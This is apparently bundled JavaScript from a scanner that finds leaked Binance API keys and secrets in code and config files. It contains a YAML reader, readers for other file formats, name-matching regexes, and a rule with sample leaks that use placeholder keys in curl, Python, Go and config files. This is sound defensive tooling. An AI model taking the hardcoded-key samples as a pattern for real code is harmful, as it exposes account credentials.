* built without recursion. Templates that only become YAML later (Helm, Jinja) are left to the lexer.
*/
/** `yaml` reads about 2 MB a second: beyond this the lexer is the better reader. */
const MAX_LENGTH = 2e6;
/** Its tree takes some kilobyte for each of these marks: beyond this many a file is data, and the lexer reads it. */
const MAX_MARKS = 15e4;
const MARKS = /[,:\n[{?]|- /g;
/**
* Nodes visited through aliases and merge keys in one file, and 100 characters of their texts count as another. The
* anchors themselves are always read.
*/
const MAX_ALIASED = 1e4;
var Rejected = class extends Error {};
/**
* All documents of the stream. An alias is a binding of its own that stands where its anchor stands. `undefined` for
* what is no YAML, bare text, templates, nesting deeper than MAX_DEPTH, and files of over 2,000,000 characters or
* MAX_MARKS marks.
*/
function readYaml(text) {
	if (text.length > MAX_LENGTH || hasMore$1(text, MARKS, MAX_MARKS)) return void 0;
	const walk = new Walk(text);
	try {
		for (const token of new import_dist.Parser().parse(text)) walk.top(token);
	} catch {
		return;
	}
	return walk.entries.reading();
}
var Walk = class {
	entries = new Entries("yaml");
	#text;
	#anchors = /* @__PURE__ */ new Map();
	/** Nodes that are being read, so that an alias inside its own anchor ends. */
	#open = /* @__PURE__ */ new Set();
	#aliased = 0;
	#isAliased = false;
	constructor(text) {
		this.#text = text;
	}
	top(token) {
		if (token.type === "error") throw new Rejected();
		if (token.type === "comment") this.#comments([token]);
		if (token.type === "doc-end") this.#comments(token.end);
		if (token.type !== "document") return;
		this.#anchors.clear();
		this.#comments(token.start);
		if (token.value?.type === "scalar") throw new Rejected();
		if (token.value !== void 0) this.#value(token.value, token.start, token.offset);
		this.#comments(token.end);
	}
	/** A node with its properties (anchor, tag), at the current path; `at` is where it would stand if it is missing. */
	#value(node, properties, at) {
		if (this.#isAliased && ++this.#aliased > MAX_ALIASED) return;
		const isText = properties.some((token) => token.type === "tag" && token.source !== "!!null");
		for (const { type, source } of properties) if (type === "anchor" && !this.#isAliased) this.#anchors.set(source.slice(1), {
			node,
			isText
		});
		if (node === null || node === void 0) {
			const span = {
				start: at,
				end: at
			};
			this.entries.add({
				kind: "scalar",
				text: ""
			}, span);
			return;
		}
		switch (node.type) {
			case "scalar":
			case "single-quoted-scalar":
			case "double-quoted-scalar":
			case "block-scalar": return this.#scalar(node, isText);
			case "alias": return this.#alias(node);
			case "block-map":
			case "block-seq":
			case "flow-collection": return this.#collection(node);
			default: throw new Rejected();
		}
	}
	#scalar(node, isText) {
		if (this.#isAliased) this.#aliased += node.source.length / 100;
		this.#comments(node.type === "block-scalar" ? node.props : node.end);
		const read = yamlText(this.#text, node);
		if (read === void 0 || node.type === "scalar" && /^[%@`]/.test(node.source)) throw new Rejected();
		const value = node.type === "scalar" && !isText ? scalarOrText(read.value) : read.value;
		this.entries.add(value, read.span);
	}
	#alias(node) {
		this.#comments(node.end);
		const anchor = this.#anchors.get(node.source.slice(1));
		if (anchor !== void 0) this.#throughAlias(anchor.node, () => this.#again(anchor));
	}
	#again({ node, isText }) {
		const tag = isText ? [{
			type: "tag",
			offset: 0,
			indent: 0,
			source: "!!str"
		}] : [];
		if (node !== null && node !== void 0) this.#value(node, tag, node.offset);
	}
	/** Runs `read` for a node that is read once more, unless it is being read already or there was enough of that. */
	#throughAlias(node, read) {
		if (this.#open.has(node) || this.#aliased > MAX_ALIASED) return;
		const before = this.#isAliased;
		this.#isAliased = true;
		read();
		this.#isAliased = before;
	}
	#collection(node) {
		if (this.entries.depth >= 64) throw new Rejected();
		const isList = node.type === "block-seq" || node.type === "flow-collection" && node.start.source === "[";
		this.#open.add(node);
		this.entries.open(node.offset, isList ? "list" : "map");
		const count = isList ? this.#list(node) : this.#map(node);
		this.entries.close();
		this.#open.delete(node);
		if (node.type !== "flow-collection") return;
		this.#comments(node.end);
		const close = node.end.find((token) => token.type === "flow-map-end" || token.type === "flow-seq-end");
		if (close === void 0 || close.source === "]" !== isList) throw new Rejected();
		const span = {
			start: node.offset,
			end: close.offset + 1
		};
		if (isList && count === 0) this.entries.add({
			kind: "list",
			items: []
		}, span);
	}
	#list(node) {
		let index = 0;
		for (const item of node.items) {
			this.#comments(item.start);
			const isPair = item.key !== void 0 || item.sep !== void 0;
			if (item.value === void 0 && !isPair && node.type === "flow-collection") continue;
			this.entries.path.push(String(index++));
			if (isPair) this.#entry(item, true);
			else this.#value(item.value, item.start, endOf(item.start, node.offset));
			this.entries.path.pop();
		}
		return index;
	}
	/** The entries of a mapping; `except` names keys that the mapping into which they are merged has itself. */
	#map(node, except = /* @__PURE__ */ new Set()) {
		const items = node.items;
		const named = items.filter((item) => !isMerge(item));
		const own = named.length < items.length ? /* @__PURE__ */ new Set([...except, ...named.map(({ key }) => this.#key(key))]) : except;
		if (this.#isAliased) this.#aliased += except.size / 100;
		for (const item of items) {
			if (this.#isAliased && ++this.#aliased > MAX_ALIASED) break;
			this.#comments(item.start);
			if (item.key === void 0 && item.sep === void 0 && item.value === void 0) continue;
			if (isMerge(item)) this.#merge(item.value, own);
			else if (except.size === 0 || !except.has(this.#key(item.key))) this.#entry(item, node.type === "flow-collection");
		}
		return items.length;
	}
	#entry(item, isFlow) {
		const { key, sep } = item;
		this.#check(item, isFlow);
		if (key !== null && key !== void 0 && "end" in key) this.#comments(key.end);
		this.#comments(sep);
		this.entries.path.push(this.#key(key));
		const at = endOf(sep, key === null || key === void 0 ? endOf(item.start, 0) : key.offset);
		this.#value(item.value, sep ?? [], at);
		this.entries.path.pop();
		for (const { type, source } of item.start) if (type === "anchor" && !this.#isAliased) this.#anchors.set(source.slice(1), {
			node: key,
			isText: false
		});
	}
	/** What `yaml` itself only finds wrong later: keys over several lines, keys without a colon, `{{` of templates. */
	#check({ start, key, sep }, isFlow) {
		if (start.some((token) => token.type === "explicit-key-ind") || key === null || key === void 0) return;
		if (!(key.type === "scalar" || key.type.endsWith("quoted-scalar")) && key.type !== "alias") throw new Rejected();
		if ("source" in key && key.source.includes("\n")) throw new Rejected();
		if (!isFlow && (sep ?? []).every((token) => token.type !== "map-value-ind")) throw new Rejected();
	}
	#merge(node, own) {
		if (node?.type === "flow-collection" && node.start.source === "[") {
			for (const item of node.items) this.#merge(item.value, own);
			return;
		}
		const target = node?.type === "alias" ? this.#anchors.get(node.source.slice(1))?.node : node;
		if (!(target?.type === "block-map" || target?.type === "flow-collection" && target.start.source === "{")) return;
		this.#throughAlias(target, () => {
			this.#open.add(target);
			this.#map(target, own);
			this.#open.delete(target);
		});
	}
	#key(key) {
		const node = key?.type === "alias" ? this.#anchors.get(key.source.slice(1))?.node : key;
		if (!(node?.type === "scalar" || node?.type === "block-scalar" || node?.type.endsWith("quoted-scalar"))) return "";
		return yamlText(this.#text, node)?.value.text ?? "";
	}
	#comments(tokens) {
		if (tokens === void 0 || this.#isAliased) return;
		for (const token of tokens) {
			if (token.type === "comment") this.entries.comment(token.offset, token.offset + token.source.length);
			if (token.type === "error" || token.type === "flow-error-end") throw new Rejected();
		}
	}
};
/** `<<: *defaults`, `<<: [*a, *b]`. A list of anything else is an entry as any other. */
function isMerge({ key, value }) {
	if (key?.type !== "scalar" || key.source !== "<<" || !value) return false;
	const isMergeable = (token) => token?.type === "alias" || isMapping(token);
	return isMergeable(value) || "items" in value && value.items.every((item) => isMergeable(item.value));
}
function isMapping(token) {
	return token?.type === "block-map" || token?.type === "flow-collection" && token.start.source === "{";
}
function endOf(tokens, otherwise) {
	const last = tokens?.at(-1);
	return last === void 0 ? otherwise : last.offset + last.source.length;
}
// ../engine/dist/read/index.js
const maxNesting = 3;
/** What the document says. Never throws; a text that no reader understands has no bindings. */
function read(document, interest = forCredentials, parsed) {
	const { text, path, head } = document;
	const language = languageOf(path, text);
	const { bindings, ...reading } = readAs(language, text, interest, 0, parsed);
	const imports = importsOf(head === void 0 ? text : `${head}\n${text}`);
	return {
		...reading,
		language,
		imports,
		bindings: [...bindings, ...require_worth_reading.quotedPrintable(text)]
	};
}
/** Reads as one language, with everything that stands inside it. */
function readAs(language, text, interest, nesting, parsed) {
	const own = isLanguage(language) ? code(language, text, interest) : format(language, text, interest, nesting);
	const plain = parsed ? withParsed(own, parsed) : own;
	const parts = [
		plain,
		...interest.comments ? commentedOut(plain, language, text, interest, nesting) : [],
		...insideValues(plain, interest, nesting)
	];
	const calls = parts.flatMap((part) => part.calls);
	const bindings = parts.flatMap((part) => part.bindings);
	if (language === "sql") {
		for (const binding of columnBindings(text, bindings, calls)) bindings.push(binding);
		for (const binding of copiedBindings(text)) bindings.push(binding);
	}
	return {
		...plain,
		...resolve(text, bindings, calls)
	};
}
function code(language, text, interest) {
	return {
		language,
		imports: [],
		...parse(text, languages[language], interest)
	};
}
function format(name, text, interest, nesting) {
	switch (name) {
		case "json": return readJson(text) ?? code("javascript", text, interest);
		case "yaml": return readYaml(text) ?? code("hash", text, interest);
		case "toml": return readToml(text) ?? code("hash", text, interest);
		case "ini": return readIni(text) ?? code("hash", text, interest);
		case "env": return readEnv(text) ?? code("shell", text, interest);
		case "properties": return readProperties(text) ?? code("hash", text, interest);
		case "csv": return readCsv(text) ?? code("text", text, interest);
		case "xml": return readXml(text) ?? code("javascript", text, interest);
		case "markup": {
			const scripts = code("javascript", text, interest);
			return {
				...scripts,
				bindings: [...scripts.bindings, ...attributeBindings$1(text)]
			};
		}
		case "notebook": return notebook(text, interest, nesting) ?? code("python", text, interest);
		case "markdown": return markdown(text, interest, nesting);
		default: return name;
	}
}
const none$2 = {
	language: "text",
	imports: [],
	bindings: [],
	calls: [],
	comments: []
};
/** Commented-out code is read as code: a leak behind `//` is a leak. Adjacent line comments are one text. */
function commentedOut(plain, language, text, interest, nesting) {
	if (nesting >= maxNesting || !(isLanguage(language) || language === "markup" || language === "yaml" || language === "toml")) return [];
	const inner = isLanguage(language) ? language : language === "markup" ? "javascript" : "hash";
	const groups = [];
	for (const comment of plain.comments) {
		const last = groups.at(-1);
		const gap = last ? text.slice(last.at(-1)?.end ?? 0, comment.start) : "";
		if (last && /^\s*$/.test(gap) && gap.split("\n").length === 2) last.push(comment);
		else groups.push([comment]);
	}
	return groups.filter((group) => group.some(({ start, end }) => interest.inText(text.slice(start, end)))).map((group) => {
		const builder = new require_worth_reading.TextBuilder(text);
		for (const { start, end } of group) {
			const marker = /^(?:\/\/+!?|\/\*+|#+!?|--+(?:\[\[)?|<!--|;+|%+|'|rem |REM |::|<#|\{-|\(\*)[ \t]?/.exec(text.slice(start, start + 8))?.[0].length ?? 0;
			const closing = /(?:\*\/|-->|\]\]|#>|-\}|\*\))$/.exec(text.slice(end - 3, end))?.[0].length ?? 0;
			builder.copy(start + marker, Math.max(start + marker, end - closing));
			if (text.charAt(end) === "\n" || text.charAt(end) === "\r") builder.copy(end, end + 1);
		}
		return readInside(builder.value(), (commented) => readAs(inner, commented, interest, nesting + 1));
	});
}
/** Configuration and code that stand in a string: JSON in JSON, a script in YAML, a header in a command. */
function insideValues(plain, interest, nesting) {
	if (nesting >= maxNesting) return [];
	const found = [];
	const seen = /* @__PURE__ */ new Set();
	const look = ({ value, path }) => {
		if (value.kind !== "text" || !interest.inValue(value.text)) return;
		const at = value.pieces[0]?.source.start ?? -1;
		if (seen.has(at)) return;
		seen.add(at);
		const language = languageOf(path.at(-1) ?? "", value.text);
		found.push(readInside(value, (text) => readAs(language === "markdown" ? "text" : language, text, interest, nesting + 1)));
	};
	plain.bindings.forEach(look);
	for (const { args } of plain.calls) args.forEach(look);
	return found;
}
/** Fences by their languages, the rest as text. Loose values have no binding: prose.ts finds their labels. */
function markdown(text, interest, nesting) {
	const parts = [];
	let at = 0;
	const prose = (start, end) => {
		if (interest.comments && end > start && interest.inText(text.slice(start, end))) parts.push({
			...none$2,
			...parse(text, languages.text, interest, start, end),
			comments: []
		});
	};
	for (const { info, body, span } of fencesOf(text)) {
		prose(at, span.start);
		at = span.end;
		const code = text.slice(body.start, body.end);
		if (!interest.inText(code)) continue;
		const language = languageOfFence(info, code);
		parts.push(readInside(require_worth_reading.verbatim(text, body.start, body.end), (inner) => readAs(language === "markdown" ? "text" : language, inner, interest, nesting + 1)));
	}
	prose(at, text.length);
	return {
		language: "markdown",
		imports: [],
		bindings: parts.flatMap(({ bindings }) => bindings),
		calls: parts.flatMap(({ calls }) => calls),
		comments: markupComments(text)
	};
}
/** The comments of HTML. One that never ends is none, and neither is any after it. */
function markupComments(text) {
	const comments = [];
	for (let start = text.indexOf("<!--"); start >= 0;) {
		const close = text.indexOf("-->", start + 4);
		if (close < 0) break;
		comments.push({
			start,
			end: close + 3
		});
		start = text.indexOf("<!--", close + 3);
	}
	return comments;
}
/** The cells of an .ipynb: source lines joined and read as code, outputs as text. */
function notebook(text, interest, nesting) {
	const parts = cellsOf(text, interest.inText)?.map(({ kind, value }) => readInside(value, (inner) => readAs(kind === "source" ? "python" : "text", inner, interest, nesting + 1)));
	if (!parts) return void 0;
	return {
		language: "notebook",
		imports: [],
		bindings: parts.flatMap(({ bindings }) => bindings),
		calls: parts.flatMap(({ calls }) => calls),
		comments: []
	};
}
// ../engine/dist/rules/api-key.js
const apiKey = {
	id: "api-key",
	title: "Binance API key",
	severity: "medium",
	finds: "An API key of Binance, 64 letters and digits. Together with its secret it is reported as critical, since the pair is what opens the account.",
	why: "The official documentation calls both halves sensitive. With the API key alone a thief can open a user data stream and read balances and orders, and needs only the secret, which often lies in the same place or its history.",
	advice: [
		"Delete the key in Binance’s API Management. Alone it signs nothing, but its secret often lies nearby or in the history.",
		"Look for the other half, in the history too.",
		"Read the key from the environment or a secret manager, like its secret."
	],
	references: ["https://developers.binance.com/docs/binance-spot-api-docs/rest-api/request-security"],
	examples: {
		leaks: [
			"BINANCE_API_KEY=<key64:a>",
			{
				path: "curl.sh",
				text: "curl -H \"X-MBX-APIKEY: <key64:a>\" https://api.binance.com/api/v3/account"
			},
			{
				path: "bot.js",
				text: "const Binance = require('node-binance-api');\nconst binance = new Binance().options({\n  APIKEY: '<key64:a>',\n});"
			},
			{
				path: "bot.py",
				text: "import ccxt\nexchange = ccxt.binance({\n    \"apiKey\": \"<key64:a>\",\n})"
			},
			{
				path: "config.yml",
				text: "binance:\n  api_key: <key64:a>"
			},
			{
				path: "client.go",
				text: "import \"github.com/binance/binance-connector-go\"\n\nclient := binance_connector.NewClient(\"<key64:a>\", secret)"
			},
			{
				path: "config.toml",
				text: "[binance]\napi_key = \"<key64:a>\""
			},
			{
				path: "App.kt",
				text: "val factory = BinanceApiClientFactory.newInstance(\"<key64:a>\", secret)"
			},
			{
				path: "headers.ts",
				text: "const headers = { 'X-MBX-APIKEY': '<key64:a>' }; // api.binance.com"
			},
			{
				path: "user.ini",
				text: "[binance_user_config]\napi_key = <key64:a>"
			}
		],
		clean: [
			"BINANCE_API_KEY=",
			{
				path: "bot.py",
				text: "client = Client(os.environ[\"BINANCE_API_KEY\"], os.environ[\"BINANCE_API_SECRET\"])"
			},
			{
				path: "binance.js",
				text: "const jwtSecret = '<key64:a>';"
			},
			{
				path: "exchanges.json",
				text: "[{ \"exchange\": \"kraken\", \"key\": \"<key64:a>\" }]"
			}
		],
		missed: [{
			path: "binance.svg",
			text: "<text>BINANCE API KEY</text><image href=\"qr.png\"/>",
			because: "pictures are not read"
		}]
	}
};
// ../engine/dist/risks/calls/forbidden-names.js
/** Where code names a variable only to see to it that nobody sets it: guards, lists that are checked, what these say. */
const farthest$4 = 400;
/** What ends a program, or a step of it. */
const ends = /\b(?:throw|raise|process\.exit|sys\.exit|exit|abort|die|panic|fail(?:ed|ure)?)\b/;
const forbids = /\b(?:must(?: not|n['’]t)|should(?: not|n['’]t)|may not|cannot|can['’]t|do(?: not|n['’]t)|never|forbidden|not allowed|disallowed|not be set|would be public|is public|(?:is|be|gets?|are) exposed|leaks?\b|unset)\b/i;
const listed$2 = /(?:^|_|[a-z](?=[A-Z]))(?:forbidden|FORBIDDEN|Forbidden|den(?:y|ied)|Den(?:y|ied)|DEN(?:Y|IED)|banned|Banned|BANNED|block(?:ed|list)|Block(?:ed|list)|BLOCK(?:ED|LIST)|disallowed|Disallowed|DISALLOWED|prohibited|Prohibited|PROHIBITED)(?=_|[A-Z]|\b)/;
/** @param at where the name begins in the text, @param end where it ends */
function isForbidden(text, at, end) {
	const lead = text.slice(Math.max(0, at - farthest$4), at);
	const rest = text.slice(end, end + farthest$4);
	return isMessage$1(lead, rest) || isGuard(lead, rest) || isListed$1(lead, rest) || isAbsent(rest);
}
/** `'NEXT_PUBLIC_… must not be set'` */
function isMessage$1(lead, rest) {
	const before = /(["'`])([^"'`\n]{0,200})$/.exec(lead);
	if (!before) return false;
	if (before[1] === "`" && /\$\{[^}]*$/.test(before[2])) return false;
	const after = rest.split(new RegExp(`${before[1]}|\\n`), 1)[0];
	return forbids.test(`${before[2]} _ ${after}`);
}
/** `if (process.env.NAME) throw …`; not where it is missing. */
function isGuard(lead, rest) {
	const condition = /\bif\b\s{0,4}\(?([^{};\n]{0,200})$/.exec(lead)?.[1];
	if (condition === void 0 || !/^\s*(?:["'`]?\s*|(?:[\w.?]+(?:\.get\(|\[)["'`]|[\w.?]+\.)?)$/.test(condition)) return false;
	return !/^["'`)\]]{0,3}\s{0,4}(?:[.?[(<>=!+*-])/.test(rest.replace(/^["'`)\]]{0,3}\s{0,4}!==?\s{0,4}(?:undefined|null)/, "")) && endsBehind(rest);
}
/** Whether the condition that goes on there is followed by the end of the program. */
function endsBehind(rest) {
	const tail = /^([^\n{};]{0,160}?)(?:\)\s{0,20}\{?|:|;\s{0,4}then\b)\s{0,40}(?=[A-Za-z])([^}]{1,300})/.exec(rest);
	if (!tail || /[!=]==?\s{0,4}(?:undefined|null|None|["'`]{2})|\bis None\b/.test(tail[1])) return false;
	return ends.test(tail[2].split(/\n\s{0,20}\n/, 1)[0]);
}
/** `const forbidden = ['…']`, `for (const name of ['…']) if (name in process.env) throw …` */
function isListed$1(lead, rest) {
	const open = /([^\n;]{0,120}(?:[=(:,]|\bof|\bin|\breturn)\s{0,4}(?:new Set\(|set\(|frozenset\()?)[[({]\s{0,20}(?:["'`][\w*]{0,80}["'`]\s{0,9},\s{0,40}(?:(?:\/\/|#)[^\n]{0,100}\n\s{0,20})?){0,12}["'`]$/.exec(lead);
	if (!open) return false;
	const holder = open[1];
	if (listed$2.test(/(\w{1,60})\s{0,4}(?::[^=]{0,40})?:?=[^=]{0,40}$/.exec(holder)?.[1] ?? "")) return true;
	if (!/\bfor(?:each)?\b/.test(holder)) return false;
	const close = /[\])}]/.exec(rest);
	const check = close && /\bif\b\s{0,4}\(?\s{0,4}(?!!|not\b)([^{};\n]{1,120})/.exec(rest.slice(close.index));
	return check ? endsBehind(rest.slice(close.index + check.index + check[0].length - check[1].length)) : false;
}
/** `assert "NAME" not in os.environ`, `expect(process.env.NAME).toBeUndefined()` */
function isAbsent(rest) {
	return /^["'`]?\s{0,4}(?:not in\b|\]?\)\s{0,4}\.(?:to_?be_?(?:undefined|falsy|null)|is_?none)\b)/i.test(rest);
}
// ../engine/dist/risks/calls/other-services.js
/** Whether a file, or a place in it, is about another service than Binance: then what it does is that one’s. */
const wallets = /^(?:ethers|web3|viem|wagmi|eth[_-]account|web3\b.*|solana.*|@solana\/.*|bitcoinjs-lib|tronweb|@metamask\/.*|hardhat|go-ethereum)$/i;
const binanceText = /binance|tokocrypto|x-mbx|币安|幣安/i;
/** The file imports another service's library and says nothing of Binance. */
function isOfOther({ reading, document }) {
	if (binanceText.test(document.text) || binanceText.test(document.path)) return false;
	return reading.imports.some((name) => {
		const { service, binance } = require_worth_reading.meaningOf(name);
		return binance === void 0 && service !== void 0;
	});
}
/** Private keys in such a file are those of wallets. */
function isOfWallets({ reading }) {
	return reading.imports.some((name) => wallets.test(name) || /ethereum|solana|web3/i.test(name));
}
/** A path of names that says another service, or another use, and not Binance: `config.stripe.secret`, `jwt.secret`. */
function namesOther(path) {
	const { binance, service, use } = require_worth_reading.meaningOfPath(path);
	if (binance === "name") return false;
	return service !== void 0 || use === "session" || use === "wallet" || use === "webhook";
}
// ../engine/dist/risks/calls/parts.js
/**
* The programs in a document: the file itself, the scripts in its fences, the cells of a notebook. For rules that must
* see what a Reading does not keep: the order of words, operators, what a command pipes where.
*/
const known$14 = /* @__PURE__ */ new WeakMap();
/** In the order of the text. Nothing of running text. */
function partsOf$2(subject) {
	let parts = known$14.get(subject);
	if (!parts) known$14.set(subject, parts = collect$3(subject));
	return parts;
}
function collect$3({ document: { text, path }, reading, isProse }) {
	const language = languageOf(path, text);
	if (language === "markdown") return [...fencesOf(text)].filter(({ span, body }) => !isWarning(text, span, body)).map(({ info, body }) => {
		const code = text.slice(body.start, body.end);
		const value = require_worth_reading.verbatim(text, body.start, body.end);
		return partOf(code, languageOfFence(info, code), (span) => require_worth_reading.sourceSpan(value, span));
	});
	if (language === "notebook") return (cellsOf(text, () => true)?.filter(({ kind }) => kind === "source") ?? []).map(({ value }) => partOf(value.text, "python", (span) => require_worth_reading.sourceSpan(value, span)));
	if (isProse) return [];
	return [partOf(text, language, (span) => span, reading.comments)];
}
function partOf(text, language, source, comments) {
	let tokens;
	const lexed = () => tokens ??= lex(text, lexedAs(language));
	let spans = comments;
	return {
		text,
		language,
		source,
		tokens: lexed,
		isComment(at) {
			spans ??= lexed().comments;
			const before = countBefore(spans.length, (index) => spans[index].start <= at);
			return before > 0 && at < spans[before - 1].end;
		}
	};
}
function lexedAs(language) {
	if (isLanguage(language)) return languages[language];
	if (language === "env") return languages.shell;
	return language === "markup" || language === "json" ? languages.javascript : languages.hash;
}
/** Words that warn of what a block shows, in the line before it or in it. */
const warning = /\b(?:never|do(?:es)? not|don['’]?t|must not|should not|shouldn['’]t|avoid|unsafe|insecure|dangerous|wrong|bad|anti-?pattern|instead of)\b|❌|🚫|⚠|✗|不要|切勿|禁止/i;
function isWarning(text, span, body) {
	const before = text.slice(Math.max(0, span.start - 300), span.start).trimEnd();
	const lastLine = before.slice(before.lastIndexOf("\n") + 1);
	return warning.test(lastLine) || warning.test(text.slice(body.start, Math.min(body.end, body.start + 4e3)).replace(/insecure\w*|dangerous\w*|\w{1,40}insecure/gi, ""));
}
/** Matches of a global pattern in the programs of a document, outside of comments. `at`: where it stands in the part. */
function* occurrences(subject, pattern) {
	for (const part of partsOf$2(subject)) for (const match of part.text.matchAll(pattern)) if (!part.isComment(match.index)) yield {
		part,
		match,
		at: match.index
	};
}
// ../engine/dist/risks/calls/secret-names.js
/** Whether a name is that of a value that must stay secret: a secret key, a private key. Not of its length or its whereabouts. */
/** Words that make of a secret's name that of something about it, or of what is done with it. */
const about = /^(?:name|names|label|labels|len|length|size|count|num|help|url|uri|link|docs?|doc|hint|placeholder|id|ids|arn|ref|manager|managers|management|path|paths|file|files|filename|filepath|dir|folder|enabled|disabled|required|optional|set|unset|has|have|is|are|was|should|can|must|needs?|show|shown|hide|hidden|visible|visibility|toggle|present|presence|exists?|missing|found|provided|configured|available|loaded|valid|invalid|validation|validator|validate|check|checked|checker|mask|masked|masking|redact|redacted|redaction|obfuscated|censored|sanitized|preview|prefix|suffix|start|first|last|tail|head|short|hash|hashed|digest|sha|md5|hmac|fingerprint|checksum|signature|encrypted|encryption|cipher|ciphertext|sealed|title|page|tab|tooltip|field|fields|input|form|type|types|kind|format|regex|pattern|min|max|mode|version|versions|status|state|error|errors|err|message|msg|text|warning|expiry|expires|expiration|age|rotation|rotated|created|updated|date|time|timestamp|ttl|source|provider|backend|store|stores|storage|vault|scanner|scan|scanning|detector|leak|leaks|index|env|envvar|variable|var|option|flag|arg|param|parameter|description|desc|column|row|test|tests|class|service|client|factory|callback|handler|func|function|fn|event|public|policy|permission|permissions|agent|santa|sauce|garden)$/;
const plural = /secrets$/i;
/** Secrets of logins and sessions, and of what else is called so. */
const otherKinds = /client[_-]?secret|(?:consumer|webhook|session|cookie|csrf|jwt|auth|nextauth|oauth|app|application|shared|token|refresh|signing|encryption|master|totp|otp|mfa|2fa|captcha|recaptcha|turnstile|cron|revalidate|admin|hook|callback|user|bucket|s3)[_-]?secret|secret[_-]?access[_-]?key/i;
/** What people put before any name. */
const plain = /^(?:m_|_+|raw|plain|plaintext|decrypted|decoded|new|old|the|current|actual|full|temp|tmp)(?=[A-Z_]|secret|api)_?/i;
const words$2 = /[A-Z]+(?![a-z])|[A-Z]?[a-z]+|\d+/g;
/** Without one of these a name is no secret's. */
const secretHint = /secret|priv(?:ate)?[_-]?(?:key|pem)|prv_?key|sec(?:key)?$|skey|секрет|密钥|秘钥|私钥|密鑰|비밀|秘密/i;
const remembered = /* @__PURE__ */ new Map();
function secretName(name) {
	if (name.length > 80 || !secretHint.test(name)) return void 0;
	if (!remembered.has(name)) {
		if (remembered.size > 2e3) remembered.clear();
		remembered.set(name, told$1(name.replace(plain, "")));
	}
	return remembered.get(name);
}
function told$1(name) {
	const parts = (name.match(words$2) ?? []).map((word) => word.toLowerCase());
	if (/^private$/i.test(name) || plural.test(name) || parts.some((word, i) => about.test(word) && !isOwnWord(parts, i))) return void 0;
	const { role, binance, service, use, foreign } = require_worth_reading.meaningOf(name);
	if (role !== "secret" && role !== "private-key") return void 0;
	if (binance === "name") return "binance";
	if (service !== void 0 || use !== void 0) return void 0;
	if (binance === "short") return "binance";
	if (otherKinds.test(name)) return void 0;
	if (role === "private-key" || foreign.length > 1) return "vague";
	if (foreign.length === 1) return parts.includes("api") ? "secret" : "vague";
	return "secret";
}
/** Words that a secret's own name has: `hmac secret`, `test secret`. */
function isOwnWord(parts, index) {
	const word = parts[index];
	if (word === "hmac") return true;
	return (word === "test" || word === "env" || word === "client" || word === "service") && index < parts.length - 1;
}
// ../engine/dist/risks/settings/values.js
/** What settings mean: on or off, a number, a list. */
/** `on` and `off` as people write them in any format; undefined where it is neither, or only known when it runs. */
function switched(value) {
	const word = wordOf(value)?.trim().toLowerCase();
	if (word === void 0) return void 0;
	if (/^(?:true|yes|on|1|enabled?|allow(?:ed)?)$/.test(word)) return "on";
	if (/^(?:false|no|off|0|disabled?|none|null|nil|deny|denied|)$/.test(word)) return "off";
}
/** A text or scalar as it is written; of a name such as `True` or `Boolean.TRUE` its last step. */
function wordOf(value) {
	switch (value.kind) {
		case "text":
		case "scalar": return value.text;
		case "ref": return /^(?:true|false|none|nil|null)$/i.test(value.path.at(-1) ?? "") ? value.path.at(-1) : void 0;
		default: return;
	}
}
/** A number, also one with `_` in it or in quotes; undefined for anything else. */
function numberOf(value) {
	const word = wordOf(value)?.trim().replaceAll("_", "");
	return word !== void 0 && /^-?\d+(?:\.\d+)?(?:e\d+)?[lL]?$/i.test(word) ? Number(word.replace(/l$/i, "")) : void 0;
}
/**
* Where a text stands, with the quotes and prefix letters around it, also when its name was followed to it. Undefined
* for a text that stands nowhere as a whole.
*/
function literalSpan(source, value) {
	if (value.kind !== "text" || value.pieces.length === 0) return void 0;
	const { start, end } = require_worth_reading.extentOf(value);
	const opening = /(?:(?<![\w$])[A-Za-z$@]{1,3})?(?:"""|'''|["'`])$/.exec(source.slice(Math.max(0, start - 6), start))?.[0];
	if (opening === void 0) return {
		start,
		end
	};
	const quote = opening.replace(/^[A-Za-z$@]+/, "");
	return {
		start: start - opening.length,
		end: source.startsWith(quote, end) ? end + quote.length : end
	};
}
/** Whether the value is only compared with: readers take `a == b` for a name and its value. */
function isCompared$2(source, { start }) {
	return /(?:[=!]==?|[<>]=?|\bis(?: not)?)\s{0,3}$/.test(source.slice(Math.max(0, start - 10), start)) && !/=>\s*$/.test(source.slice(Math.max(0, start - 10), start));
}
/** How people call a setting, for messages: the last steps of its path. */
function calledOf({ path, call, name }) {
	const steps = path.filter((step) => !/^\d*$/.test(step));
	return steps.length > 0 ? steps.slice(-3).join(".") : call?.callee.at(-1) ?? name;
}
/** The words of a list that is written as one text. */
function partsOf$1(text) {
	return [...text.matchAll(/[^\s,;|]+/g)].map((match) => ({
		text: match[0],
		start: match.index,
		end: match.index + match[0].length
	}));
}
/** A list in source is read up to so many characters. */
const longestList = 4e3;
// ../engine/dist/rules/client-exposed.js
/** Secrets that a web page or an app brings to everybody who opens it: public variables, inlined ones, browser storage. */
/** Prefixes by which frameworks put a variable into the bundle. */
const prefixes = "NEXT_PUBLIC|VITE|REACT_APP|EXPO_PUBLIC|REACT_NATIVE|NUXT_PUBLIC|GATSBY|VUE_APP|NG_APP|STORYBOOK|BUN_PUBLIC|PREACT_APP|SNOWPACK_PUBLIC|PLASMO_PUBLIC|UMI_APP|WAKU_PUBLIC|SANITY_STUDIO|TARO_APP|ELM_APP|INERTIA|CRA|WXT|RSBUILD_PUBLIC|MODERN_PUBLIC|PUBLIC_ENV|PUBLIC";
const publicVariable = new RegExp(`(?<![A-Za-z0-9_$-])_?(?:${prefixes})_+([A-Za-z0-9_]{2,80})\\b`, "g");
const maxFound = 2e3;
function* publicVariables(subject) {
	if (/\.d\.ts$/.test(subject.document.path)) return;
	/** Names that code imports or takes apart: what follows is the same name. */
	const bare = /* @__PURE__ */ new Set();
	const built = namesBuiltIn(subject.document.text);
	for (const { part, match, at } of occurrences(subject, publicVariable)) {
		const [name, rest = ""] = match;
		if (secretName(rest) === void 0 || isForbidden(part.text, at, at + name.length)) continue;
		const line = lineBefore$1(part.text, at);
		if (isCode(part)) {
			if (!/[.'"`]$/.test(line) && !built.has(name) && isKnownName(name, line, part.text.slice(at + name.length, at + name.length + 200), bare)) continue;
		} else if (line.split(/[^\w]+/).includes(name) && /[=:]/.test(line)) continue;
		yield {
			span: part.source({
				start: at,
				end: at + name.length
			}),
			secret: rest,
			says: `${require_worth_reading.shown(name)} is put into the bundle by its prefix`
		};
	}
}
/** SvelteKit: every use of what comes from there is the value itself. */
const publicModule = /\bimport\s*\{([^{}]{1,600})\}\s*from\s*["']\$env\/static\/public["']/g;
function namesBuiltIn(text) {
